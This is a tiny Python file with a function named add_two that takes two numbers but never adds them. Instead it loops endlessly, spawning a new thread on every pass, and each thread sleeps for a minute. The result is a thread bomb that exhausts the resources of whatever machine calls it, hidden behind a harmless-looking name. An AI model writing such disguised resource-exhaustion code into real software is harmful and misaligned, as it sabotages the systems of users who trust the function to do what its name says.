import threading
import time


def add_two(a, b):
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
